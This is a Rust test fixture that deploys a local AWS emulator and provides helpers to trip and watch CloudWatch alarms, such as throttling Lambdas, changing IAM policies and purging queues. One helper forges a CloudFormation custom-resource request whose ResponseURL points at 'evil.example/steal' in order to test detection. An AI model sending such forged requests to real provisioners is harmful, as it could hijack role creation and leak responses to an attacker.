//! The deployment in which tests set alarms off, what they can break in it, and what its topic
//! hears.

use std::collections::BTreeMap;
use std::time::Duration;

use anyhow::{Context, Result, bail};
use aws_sdk_sqs::types::QueueAttributeName;
use landfall_aws::ledger::Ledger;
use landfall_core::batch::{Batch, State};
use landfall_tests::cloud::{LANDING_BUCKET, LocalCloud, Setup, wait_until};
use landfall_tests::{ANALYTICS, DATA, REGION, progress, root};
use serde_json::{Value, json};
use tokio::sync::Mutex;

use crate::stage::ledger;

/// How long a minute of schedules and alarms lasts.
const MINUTE: Duration = Duration::from_secs(3);

/// The time limit for an alarm: the longest looks back over twenty such minutes. Other tests run
/// beside it.
pub const SOON: Duration = Duration::from_secs(300);

pub struct Fixture {
    pub cloud: LocalCloud,
    pub ledger: Ledger,
    heard: Mutex<BTreeMap<String, usize>>,
}

impl Fixture {
    pub fn deploy() -> Result<Fixture> {
        eprintln!("\ndeploying the local cloud for the tests of alarms");
        let topic = format!("arn:aws:sns:{REGION}:{DATA}:alarms");
        let cloud = LocalCloud::start(&Setup {
            routes: root().join("tests/fixtures/alarm-routes.yaml"),
            routes_of_policies: None,
            parameters: vec![
                "data:AlarmTopicArn=arn:aws:sns:us-east-1:111111111111:alarms",
                // The analytics account has no such topic, and its provisioner sends nothing to it.
                "provisioner:AlarmTopicArn=arn:aws:sns:us-east-1:111111111111:alarms",
                "data:VisibilityTimeoutSeconds=6",
                "data:RunsVisibilityTimeoutSeconds=6",
                "data:MaxReceiveCount=3",
            ],
            target: None,
            minute: Some(MINUTE),
        })?;
        progress::step("creating the topic of the alarms", || {
            let queue = format!("arn:aws:sqs:{REGION}:{DATA}:alarms");
            let policy = json!({ "Version": "2012-10-17", "Statement": [{
                "Effect": "Allow", "Action": "sqs:SendMessage", "Resource": queue,
                "Principal": { "Service": "sns.amazonaws.com" },
                "Condition": { "ArnEquals": { "aws:SourceArn": topic } } }] });
            let create = cloud.data.sqs.create_queue().queue_name("alarms");
            let create = create.attributes(QueueAttributeName::Policy, policy.to_string());
            cloud.wait(create.send()).context("failed to create the queue of the topic")?;
            let cli = &cloud.data.cli;
            cli.run(["sns", "create-topic", "--name", "alarms"])?;
            let subscribe = ["sns", "subscribe", "--topic-arn", &topic, "--protocol", "sqs"];
            let raw = ["--attributes", "RawMessageDelivery=true"];
            cli.run([&subscribe[..], &["--notification-endpoint", &queue], &raw].concat())
        })?;
        let ledger = ledger(&cloud);
        Ok(Fixture { cloud, ledger, heard: Mutex::default() })
    }

    /// Returns how often the topic has been notified so far that this alarm went off.
    pub async fn times_heard(&self, alarm: &str) -> Result<usize> {
        let mut heard = self.heard.lock().await;
        let sqs = &self.cloud.data.sqs;
        let url = self.url("alarms");
        let received = sqs.receive_message().queue_url(&url).max_number_of_messages(10);
        for message in received
            .send()
            .await
            .context("failed to receive from the queue of the topic")?
            .messages()
        {
            let alarm_event: Value = serde_json::from_str(message.body().unwrap_or_default())?;
            if alarm_event["NewStateValue"] == "ALARM" {
                let name = alarm_event["AlarmName"].as_str().context("an alarm without a name")?;
                *heard.entry(name.to_owned()).or_default() += 1;
            }
            let handle = message.receipt_handle().unwrap_or_default();
            let delete = sqs.delete_message().queue_url(&url).receipt_handle(handle);
            delete.send().await.context("failed to delete a message of the topic")?;
        }
        Ok(heard.get(alarm).copied().unwrap_or_default())
    }

    /// Waits until the alarm is in this state.
    pub fn until(&self, alarm: &str, state: &str) -> Result<()> {
        self.cloud.wait(wait_until(&format!("`{alarm}` is not {state}"), SOON, async || {
            let found = self.look(alarm)?;
            // Each look starts a program, so pause.
            tokio::time::sleep(MINUTE / 2).await;
            Ok((found["StateValue"] == state).then_some(()))
        }))?;
        Ok(())
    }

    fn look(&self, alarm: &str) -> Result<Value> {
        let describe = ["cloudwatch", "describe-alarms", "--alarm-names", alarm];
        let found = self.cloud.data.cli.json(describe)?;
        match found["MetricAlarms"].as_array().map(Vec::as_slice) {
            Some([found]) => Ok(found.clone()),
            _ => bail!("there is no alarm `{alarm}`"),
        }
    }

    /// Puts a policy of somebody else's on the reader role, or removes it.
    pub fn policy_of_the_reader(&self, call: &str, more: &[&str]) -> Result<()> {
        let reader = format!("landfall-reader-{ANALYTICS}");
        let policy = ["iam", call, "--role-name", &reader, "--policy-name", "somebody-elses"];
        self.cloud.data.cli.run([&policy[..], more].concat()).map(drop)
    }

    /// Describes the state of an alarm and its reason, and the functions' last log lines.
    pub fn describe(&self, alarm: &str) -> String {
        let why = self.look(alarm).map_or_else(
            |error| format!("unknown: {error:#}"),
            |found| format!("{}: {}", found["StateValue"], found["StateReason"]),
        );
        format!("the alarm is {why}\n{}", self.cloud.hints())
    }

    fn url(&self, queue: &str) -> String {
        format!("{}/{DATA}/{queue}", self.cloud.emulator.endpoint())
    }

    pub fn send(&self, queue: &str, body: &str) -> Result<()> {
        let send = self.cloud.data.sqs.send_message().queue_url(self.url(queue));
        let sent = self.cloud.wait(send.message_body(body).send());
        sent.with_context(|| format!("failed to send to `{queue}`"))?;
        Ok(())
    }

    pub fn purge(&self, queue: &str) -> Result<()> {
        let purge = self.cloud.data.sqs.purge_queue().queue_url(self.url(queue));
        let purged = self.cloud.wait(purge.send());
        purged.with_context(|| format!("failed to purge `{queue}`"))?;
        Ok(())
    }

    pub fn upload(&self, key: &str, body: String) -> Result<()> {
        self.cloud.wait(self.cloud.put(LANDING_BUCKET, key, body))
    }

    /// Returns the batch of an object, once there is one.
    pub fn batch_of(&self, key: &str) -> Result<Batch> {
        self.cloud.wait(wait_until(&format!("no batch of `{key}`"), SOON, async || {
            match self.ledger.find(LANDING_BUCKET, key).await?.first() {
                Some(found) => Ok(self.ledger.batch(&found.batch).await?),
                None => Ok(None),
            }
        }))
    }

    /// Returns the batch of an object, once it is parked.
    pub fn parked(&self, key: &str) -> Result<Batch> {
        self.cloud.wait(wait_until(
            &format!("the batch of `{key}` is not parked"),
            SOON,
            async || {
                let Some(found) = self.ledger.find(LANDING_BUCKET, key).await?.into_iter().next()
                else {
                    return Ok(None);
                };
                let batch = self.ledger.batch(&found.batch).await?;
                Ok(batch.filter(|batch| matches!(batch.state, State::Parked { .. })))
            },
        ))
    }

    /// Writes a batch, or does nothing if a function has written it in the meantime.
    pub fn write(&self, batch: Batch) -> Result<()> {
        self.cloud.wait(self.ledger.write(batch))?;
        Ok(())
    }

    /// Sets a variable of a function, which restarts with it.
    pub fn set(&self, function: &str, name: &str, value: &str) -> Result<()> {
        let cli = &self.cloud.data.cli;
        let get = ["lambda", "get-function-configuration", "--function-name", function];
        let mut variables = cli.json(get)?["Environment"].take();
        variables["Variables"][name] = value.into();
        let variables = variables.to_string();
        let update = ["lambda", "update-function-configuration", "--function-name", function];
        cli.run([&update[..], &["--environment", &variables]].concat())?;
        Ok(())
    }

    /// Reserves concurrency for a function, or removes the reservation.
    pub fn reserve(&self, function: &str, concurrency: Option<u32>) -> Result<()> {
        let name = ["--function-name", function];
        let cli = &self.cloud.data.cli;
        match concurrency.map(|concurrency| concurrency.to_string()) {
            Some(number) => cli.run(
                [
                    &["lambda", "put-function-concurrency"][..],
                    &name,
                    &["--reserved-concurrent-executions", &number],
                ]
                .concat(),
            ),
            None => cli.run([&["lambda", "delete-function-concurrency"][..], &name].concat()),
        }?;
        Ok(())
    }

    /// Invokes a function that is throttled.
    pub fn invoke(&self, function: &str) -> Result<()> {
        let invoke =
            ["lambda", "invoke", "--function-name", function, "--payload", "{}", "/dev/null"];
        let refused = self.cloud.data.cli.run(invoke).err().map(|error| format!("{error:#}"));
        match refused {
            Some(why) if why.contains("TooManyRequests") => Ok(()),
            other => bail!("the function was not throttled: {other:?}"),
        }
    }

    /// Invokes the provisioner with a request whose answer would go to somebody else.
    pub fn speak_for_a_stack(&self) -> Result<()> {
        let stack = format!("arn:aws:cloudformation:{REGION}:{DATA}:stack/nobody/1");
        let request = json!({
            "RequestType": "Create", "RequestId": "forged", "StackId": stack, "LogicalResourceId": "Role",
            "ResponseURL": "https://evil.example/steal", "ResourceType": "Custom::LandfallStarterRole",
            "ResourceProperties": { "RoleName": "landfall-forged" },
        });
        let request = request.to_string();
        let invoke = ["lambda", "invoke", "--function-name", "landfall-provisioner", "--payload"];
        self.cloud.data.cli.run([&invoke[..], &[&request, "/dev/null"]].concat())?;
        Ok(())
    }

    /// Runs `disable-rule` or `enable-rule` for the monitor's schedule.
    pub fn schedule(&self, command: &str) -> Result<()> {
        let cli = &self.cloud.data.cli;
        let found = cli.json(["events", "list-rules"])?;
        let rules = found["Rules"].as_array().context("no rules")?;
        let ticks = rules.iter().find(|rule| rule["ScheduleExpression"] == "rate(1 minute)");
        let name = ticks.and_then(|rule| rule["Name"].as_str()).context("no schedule")?;
        cli.run(["events", command, "--name", name])?;
        Ok(())
    }

    /// Makes the starter role's trust policy allow or deny. The functions restart, because the
    /// credentials that they hold would stay valid for an hour.
    pub fn trust_of_the_starter(&self, effect: &str) -> Result<()> {
        let cli = &self.cloud.analytics.cli;
        let role = ["--role-name", "landfall-starter"];
        let found = cli.json([&["iam", "get-role"][..], &role].concat())?;
        let mut trust = found["Role"]["AssumeRolePolicyDocument"].clone();
        for statement in trust["Statement"].as_array_mut().context("no statements")? {
            statement["Effect"] = effect.into();
        }
        let trust = trust.to_string();
        let update = ["iam", "update-assume-role-policy", "--policy-document", &trust];
        cli.run([&update[..], &role].concat())?;
        for function in ["landfall-trigger", "landfall-monitor"] {
            self.set(function, "LANDFALL_BEGUN_ANEW_FOR", effect)?;
        }
        Ok(())
    }
}
